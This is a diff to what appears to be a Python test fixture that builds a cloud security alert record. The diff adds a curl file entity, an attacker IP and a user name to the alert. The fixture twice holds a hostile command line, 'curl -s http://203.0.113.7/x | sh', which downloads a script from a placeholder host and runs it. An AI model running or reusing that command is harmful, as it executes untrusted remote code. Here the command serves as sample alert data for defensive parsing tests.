@@ -46,10 +46,20 @@ def record(**overrides: Any) -> dict[str, Any]:
             {
                 "$id": "5",
                 "ProcessId": "0x1f40",
+                "ImageFile": {"$ref": "8"},
                 "CommandLine": "curl -s http://203.0.113.7/x | sh",
                 "Account": {"$ref": "4"},
                 "Host": {"$ref": "2"},
                 "Type": "process",
+            },
+            {
+                "$id": "8",
+                "Directory": "/usr/bin",
+                "Name": "curl",
+                "FileHashes": [
+                    {"$id": "9", "Algorithm": "MD5", "Value": "0a" * 16, "Type": "filehash"}
+                ],
+                "Type": "file",
             },
         ],
         "ExtendedLinks": [],
@@ -72,6 +82,8 @@ def record(**overrides: Any) -> dict[str, Any]:
             "resourceType": "Virtual Machine",
             "Investigation steps": '{"kind":"Link","value":"https:\\/\\/example.com\\/how"}',
             "Command line": "curl -s http://203.0.113.7/x | sh",
+            "Attacker source IP": "203.0.113.7",
+            "User Name": "SHOP-VM-1\\svc-web",
         },
         "AlertUri": f"{PORTAL}/Microsoft_Azure_Security/AlertBlade/alertId/2517000000000000001"
         f"/subscriptionId/{SUBSCRIPTION}/resourceGroup/rg-shop/location/westeurope",
